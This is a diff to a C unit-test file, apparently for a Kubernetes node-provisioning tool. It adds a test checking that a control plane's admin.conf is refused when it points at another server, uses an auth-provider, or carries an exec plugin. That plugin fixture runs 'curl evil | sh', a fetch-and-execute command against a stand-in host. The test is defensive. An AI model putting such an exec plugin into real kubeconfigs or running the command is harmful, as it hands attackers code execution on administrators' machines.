@@ -24,6 +24,16 @@
 
 #define SECRET_VALUE "hunter2-SuperSecret-0042"
 
+/* admin.conf as kubeadm writes it for the control plane cp (198.18.0.10, port 6443). */
+#define KUBECONFIG_HEAD                                                                            \
+	"apiVersion: v1\nclusters:\n- cluster:\n    certificate-authority-data: Q0EK\n"            \
+	"    server: https://198.18.0.10:6443\n  name: kubernetes\ncontexts:\n- context:\n"        \
+	"    cluster: kubernetes\n    user: kubernetes-admin\n"                                    \
+	"  name: kubernetes-admin@kubernetes\ncurrent-context: kubernetes-admin@kubernetes\n"      \
+	"kind: Config\npreferences: {}\nusers:\n- name: kubernetes-admin\n  user:\n"
+#define KUBECONFIG_GOOD                                                                            \
+	KUBECONFIG_HEAD "    client-certificate-data: Q0VSVAo=\n    client-key-data: S0VZCg==\n"
+
 /* ---- the fake nodes ---- */
 
 struct fake_node {
@@ -37,6 +47,7 @@ struct fake_node {
 	 * of its gossip step and of its joiner step, '\n'-separated.
 	 */
 	const char *evil_facts, *evil_gossip, *evil_joiner;
+	const char *kubeconfig; /* what `cat` of admin.conf gives (default: kubeadm's shape) */
 	char seen[1024]; /* joiner: the join command it read; labels: the labels handed to it */
 	char files[4][128];
 	char shas[4][65];
@@ -138,6 +149,10 @@ static int fake_exec(struct transport *t, const struct transport_exec *req,
 		snprintf(line, sizeof(line), "machine_id=%032zx", (size_t)(n - fake_nodes) + 1);
 		say(req, line);
 		say_lines(req, n->evil_facts);
+		return 0;
+	}
+	if (!strncmp(req->command, "cat -- '/etc/kubernetes/admin.conf'", 35)) {
+		say_lines(req, n->kubeconfig ? n->kubeconfig : KUBECONFIG_GOOD);
 		return 0;
 	}
 	if (!strncmp(req->command, "cat -- '", 8)) { /* a ::fetch */
@@ -1071,7 +1086,7 @@ static void test_hostile_fetch(void **state)
 	execute(f, false, sec, &c, &res);
 	got = read_private(dir, "admin.conf");
 	assert_non_null(got);
-	assert_string_equal(got, "content of /etc/kubernetes/admin.conf on cp\n");
+	assert_string_equal(got, KUBECONFIG_GOOD);
 	assert_int_equal(res.status[node_index(f, "w-2")].state, NODE_FAILED);
 	assert_int_equal(res.status[node_index(f, "w-3")].state, NODE_FAILED);
 	assert_non_null(strstr(c.all.buf, "protocol violation by node 'w-2' in gossip › 10-gossip: "
@@ -1111,6 +1126,48 @@ static void test_hostile_secret(void **state)
 	secrets_free(sec);
 }
 
+/*
+ * Issue 31 F7: the control plane's admin.conf names another server, or an
+ * exec plugin.  Before: kept as it came (this machine's /readyz went there;
+ * the admin's kubectl would run the command).  Now: the step fails, the copy
+ * here is unchanged.
+ */
+static void test_hostile_kubeconfig(void **state)
+{
+	static const char *const evil[] = {
+	    "apiVersion: v1\nclusters:\n- cluster:\n    certificate-authority-data: Q0EK\n"
+	    "    server: https://203.0.113.9:6443\n  name: kubernetes\ncontexts:\n- context:\n"
+	    "    cluster: kubernetes\n    user: kubernetes-admin\n  name: x\n"
+	    "current-context: x\nkind: Config\nusers:\n- name: kubernetes-admin\n  user:\n"
+	    "    client-certificate-data: Q0VSVAo=\n    client-key-data: S0VZCg==\n",
+	    KUBECONFIG_HEAD "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
+			    "      command: /bin/sh\n      args: [-c, 'curl evil | sh']\n",
+	    KUBECONFIG_HEAD "    auth-provider:\n      name: oidc\n",
+	};
+	struct fixture *f = *state;
+	size_t k;
+
+	for (k = 0; k < ARRAY_SIZE(evil); k++) {
+		struct secrets *sec = secrets_new();
+		struct collected c = {STRBUF_INIT, {0}};
+		struct plan_result res;
+		char *got;
+
+		fake_find("cp")->kubeconfig = evil[k];
+		execute(f, false, sec, &c, &res);
+		assert_int_equal(res.status[node_index(f, "cp")].state, NODE_FAILED);
+		assert_non_null(strstr(
+		    res.status[node_index(f, "cp")].reason,
+		    "'admin.conf' (/etc/kubernetes/admin.conf) from node 'cp' is refused: "));
+		got = read_private(f->state_dir, "admin.conf");
+		if (got)
+			fail_msg("kept: %s", got);
+		plan_result_release(&res);
+		strbuf_release(&c.all);
+		secrets_free(sec);
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -1131,6 +1188,7 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_hostile_long_line, setup_exchange, teardown),
 		cmocka_unit_test_setup_teardown(test_hostile_facts_protocol, setup_exchange, teardown),
 		cmocka_unit_test_setup_teardown(test_hostile_fetch, setup_exchange, teardown),
+		cmocka_unit_test_setup_teardown(test_hostile_kubeconfig, setup_exchange, teardown),
 		cmocka_unit_test_setup_teardown(test_hostile_secret, setup_exchange, teardown),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
